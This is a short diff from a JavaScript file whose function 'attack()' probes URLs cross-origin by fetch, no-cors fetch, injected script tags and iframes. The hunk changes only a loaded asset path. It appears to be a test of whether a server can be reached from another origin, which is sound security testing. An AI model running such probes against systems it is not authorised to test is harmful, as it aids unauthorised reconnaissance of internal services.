@@ -59,7 +59,7 @@ async function attack() {
     await attempt("get " + url, () => fetch(get).then((answer) => answer.text()));
     await attempt("get without preflight " + url, () => fetch(get, {mode: "no-cors"}).then((answer) => answer.text()));
     await attempt("script " + url, () => element("script", {src: get}));
-    await attempt("file " + url, () => element("script", {src: url + "/assets/carnet.js"}));
+    await attempt("file " + url, () => element("script", {src: url + "/assets/start.js"}));
     if (!target) await attempt("frame " + url, () => element("iframe", {src: get}));
   }
   results.append("finished");
